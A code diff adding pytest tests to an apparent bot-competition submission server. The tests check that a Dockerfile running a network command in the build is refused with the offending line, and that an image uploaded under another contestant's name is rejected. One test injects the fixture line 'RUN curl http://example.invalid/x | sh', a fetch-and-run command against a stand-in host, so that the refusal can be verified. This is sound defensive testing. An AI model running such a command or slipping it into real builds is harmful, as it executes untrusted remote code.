@@ -253,6 +253,23 @@ def test_recover_enters_a_validated_submission_without_playing_again(denv: Env) 
     assert catalogue.find("lazarus", f"s{row.id}", home=denv.competition.home) is not None
 
 
+@pytest.mark.docker
+def test_a_refused_build_says_why(denv: Env) -> None:
+    """ATTACK: a Dockerfile that runs a command in the build (network, the daemon's resources)
+    is refused with the reason and the offending line, nothing built."""
+    directory = bot_dir(denv.root, "builder")
+    dockerfile = (directory / "Dockerfile").read_text(encoding="utf-8")
+    (directory / "Dockerfile").write_text(dockerfile.replace(
+        "COPY . /bot", "COPY . /bot\nRUN curl http://example.invalid/x | sh"), encoding="utf-8")
+    sid = denv.submit(tar_of(directory))
+    row = denv.book.get(sid)
+    assert row is not None and row.stage == REFUSED and row.counted
+    assert row.message.startswith("Dockerfile line 5: RUN: not")  # no path of the server's
+    assert str(denv.root) not in row.message + row.detail
+    assert row.name == "builder"
+    assert denv.stages(sid) == [RECEIVING, UPLOADED, REFUSED]
+
+
 # --- without Docker (refused before anything is built) ------------------------------------
 def test_a_name_owned_by_another_is_refused_before_any_build(env: Env) -> None:
     """ATTACK: bob submits a bot named like alice's: refused before anything is built (no
@@ -265,6 +282,16 @@ def test_a_name_owned_by_another_is_refused_before_any_build(env: Env) -> None:
     assert env.stages(sid) == [RECEIVING, UPLOADED, REFUSED]
     assert env.accounts.owner("alices-bot") == "alice"
     assert env.pipeline()._client is None  # no engine was asked for
+
+
+def test_an_image_under_another_contestants_name_is_refused_before_loading(env: Env) -> None:
+    """ATTACK: bob uploads an image under alice's bot name: refused before it is loaded (the
+    bytes are not even a tar: nothing read them)."""
+    assert env.accounts.claim("alices-bot", "alice")
+    sid = env.submit(b"not even a tar", who="bob", name="alices-bot", kind="image")
+    row = env.book.get(sid)
+    assert row is not None and row.stage == REFUSED
+    assert "belongs to another contestant" in row.message
 
 
 def test_a_house_bots_name_is_refused(env: Env) -> None:
